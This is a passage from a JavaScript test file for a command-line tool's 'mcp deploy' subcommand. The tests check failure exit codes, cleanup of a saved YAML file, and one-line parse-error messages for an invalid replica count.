      const r = await runCli(['mcp', 'deploy', 'mine', '--runtime', 'custom', '--create-yaml', saved])
      assert.notEqual(r.code, 0, r.stderr)
      assert.equal(existsSync(saved), false)
    } finally {
      rmSync(work, {recursive: true, force: true})
    }
  })
  it('oclif parse errors keep their detail on one line (--replicas -1)', async () => {
    const r = await runCli(['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--replicas', '-1', '--json'])
    assert.equal(r.code, 2)
    assert.match(JSON.parse(r.stdout).error.message, /greater than or equal to 0/)
  })
})
